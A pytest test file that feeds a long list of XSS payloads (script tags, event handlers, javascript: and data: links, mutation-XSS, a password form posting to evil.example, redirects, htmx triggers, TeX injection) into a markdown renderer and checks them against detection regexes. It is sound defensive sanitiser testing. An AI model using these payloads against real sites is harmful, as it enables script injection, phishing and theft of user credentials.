"""What an AI wrote is shown without doing what it says."""

from __future__ import annotations

import re

import pytest

from apps.common.richtext import markdown_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/track.png)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    '[x](https://ok.example "onclick=alert(1)")',
    '[x](https://ok.example" onclick="alert(1))',
    "<div hx-get='/admin/' hx-trigger='load'>x</div>",
    "<button hx-post=/providers/ formaction=javascript:alert(1)>x</button>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
HARM = re.compile(
    r"<(script|img|svg|iframe|style|form|input|meta|base|math|object|embed|button|div(?! class=\"code)|link)\b"
    r"|<[^>]+\s(on\w+|style|hx-[\w-]+|id|class=\"(?!language-|hl-|code))\s*=?"
    r"|<[^>]+(href|src|action|formaction)=\"?\s*(javascript|data|vbscript):",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_survives(attack):
    html = re.sub(r'title="[^"]*"', "", markdown_html(attack))
    assert not HARM.search(html), html


def test_what_is_meant_well_survives():
    html = markdown_html(
        "# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\n[link](https://ok.example)"
    )
    for part in (
        "<h3>Title</h3>",
        "<strong>bold</strong>",
        "<code>code</code>",
        "<li>one</li>",
        "<td>1</td>",
        '<div class="code"><div class="code-head"><span>python</span></div>',
        '<span class="hl-f">print</span>(<span class="hl-n">1</span>)',
        'href="https://ok.example"',
    ):
        assert part in html


def test_links_give_nothing_to_where_they_lead():
    assert 'rel="noopener noreferrer nofollow"' in markdown_html("[x](https://ok.example)")


def test_headings_stay_below_those_of_the_page_and_skip_no_level():
    assert headings("# a\n\n## b\n\n### c") == ["h3", "h4", "h5"]
    assert headings("## a\n\n#### b\n\n## c") == ["h3", "h4", "h3"]
    assert headings("# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f") == ["h3", "h4", "h5", "h6", "h6", "h6"]


def headings(text: str) -> list[str]:
    return re.findall(r"<(h\d)>", markdown_html(text))


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("It is $x^2$.", "<msup><mi>x</mi><mn>2</mn></msup>"),
        (r"It is \(x_1\).", "<msub><mi>x</mi><mn>1</mn></msub>"),
        ("$$\n\\frac{1}{2}\n$$", '<span class="math"><math display="block">'),
        (r"\[ \sqrt{2} \]", "<msqrt>"),
    ],
)
def test_formulas_are_drawn(text, drawn):
    assert drawn in markdown_html(text)


@pytest.mark.parametrize("text", ["It costs $5 and $10.", "$ 5 and 6 $", "```\n$x$\n```", "`$x$`", r"US\$ 5$"])
def test_money_and_code_are_no_formulas(text):
    assert "<math" not in markdown_html(text)


@pytest.mark.parametrize(
    "tex",
    [
        r"\text{<script>alert(1)</script>}",
        r"\text{<img src=x onerror=alert(1)>}",
        r"\href{javascript:alert(1)}{x}",
        r"\text{</mtext></math><script>alert(1)</script>}",
        r"\style{position:fixed}{x}",
        r"\class{btn}{x}",
        r"\frac{1",
        "{" * 900,
    ],
)
def test_a_formula_can_do_no_harm(tex):
    html = markdown_html(f"a ${tex}$ b") + markdown_html(f"$$\n{tex}\n$$")
    assert not re.search(r"<(script|img|style)|<[^>]+\s(on\w+|style|href|class=.(?!math))\s*=", html), html
